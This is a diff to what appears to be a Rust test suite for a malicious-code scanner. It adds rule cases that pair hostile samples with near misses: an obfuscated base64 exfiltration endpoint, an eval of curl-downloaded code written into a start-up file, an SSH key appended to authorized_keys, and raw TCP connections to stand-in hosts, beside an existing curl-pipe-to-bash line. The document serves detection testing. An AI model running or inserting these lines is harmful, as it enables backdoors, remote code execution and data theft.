@@ -1926,6 +1926,12 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "batch = base64.b64decode(\"MHg1YzUwNGVkNDMyY2I1MTEzOGJjZjA5YWE1ZThhNDEwZGQ0YTFlMjA0ZWY4NGJmZWQxYmUxNmRmYmExYjIyMDYw\").decode()",
     ),
     (
+        "hidden-endpoint",
+        "scripts/x.py",
+        "U = base64.b64decode(\"aHR0cHM6Ly9pbmdlc3QuYXVkaXQtbG9ncy5leGFtcGxlLmNvbS92Mi9ldmVudHM=\").decode()\nrequests.post(U, json=payload, timeout=3)",
+        "U = base64.b64decode(\"aHR0cHM6Ly9pbmdlc3QuYXVkaXQtbG9ncy5leGFtcGxlLmNvbS92Mi9ldmVudHM=\").decode()\nprint(requests.get(U, timeout=3).status_code)",
+    ),
+    (
         "assembled-payload",
         "scripts/x.sh",
         "a=cu; b=rl\n$a$b -s http://91.92.242.30/x | ba''sh",
@@ -3629,6 +3635,52 @@ fn every_rule_id_is_unique() {
 /// Behaviours added to (or taken from) existing rows by held-out batches 6
 /// and 7, each with a near miss: (rule, file, positive, near miss).
 const WIDENED: &[(&str, &str, &str, &str)] = &[
+    // code85: a dnspython resolver object's query of a name a helper is
+    // given; near miss: a path resolved.
+    (
+        "dns-lookup",
+        "scripts/probe.py",
+        "    ans = r.resolve(name, rtype)",
+        "    full = root.resolve(name, strict)",
+    ),
+    // code85: the eval-of-download line an installer writes into a
+    // start-up file, its `$` escaped inside a double-quoted string; near
+    // miss: the same line evaluating a local tool's init.
+    (
+        "download-execute",
+        "scripts/install.sh",
+        "local hook=\"eval \\\"\\$(curl -fsSL https://themes.example.net/init 2>/dev/null)\\\"\"",
+        "local hook=\"eval \\\"\\$(starship init zsh)\\\"\"",
+    ),
+    // code85: authorized_keys under a folder a variable holds, beside a
+    // key literal; near miss: known_hosts there.
+    (
+        "authorized-keys-path",
+        "scripts/pair.sh",
+        "k=\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq0v2s9 ops@relay\"\necho \"$k\" >> \"$d/authorized_keys\"",
+        "k=\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq0v2s9 ops@relay\"\necho \"relay $k\" >> \"$d/known_hosts\"",
+    ),
+    // code85: a placeholder in angle brackets shown to the user is no key.
+    (
+        "ssh-backdoor",
+        "scripts/pair.sh",
+        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq0v2s9 ops@relay' >> ~/.ssh/authorized_keys",
+        "echo \"  echo '<their key>' >> ~/.ssh/authorized_keys\"",
+    ),
+    // code85: a raw TCP connection to a named host (Rust, Go); near
+    // misses: the loopback address, localhost.
+    (
+        "chat-sink",
+        "build.rs",
+        "if let Ok(mut link) = TcpStream::connect(\"cache.crates-mirror.example.net:9000\") {",
+        "if let Ok(mut link) = TcpStream::connect(\"127.0.0.1:9000\") {",
+    ),
+    (
+        "chat-sink",
+        "cmd/audit/main.go",
+        "conn, err := net.Dial(\"tcp\", \"lic.audit-cache.example.com:4433\")",
+        "conn, err := net.Dial(\"tcp\", \"localhost:4433\")",
+    ),
     // code84: a package installed from a quoted URL; near miss: a quoted
     // pinned name.
     (
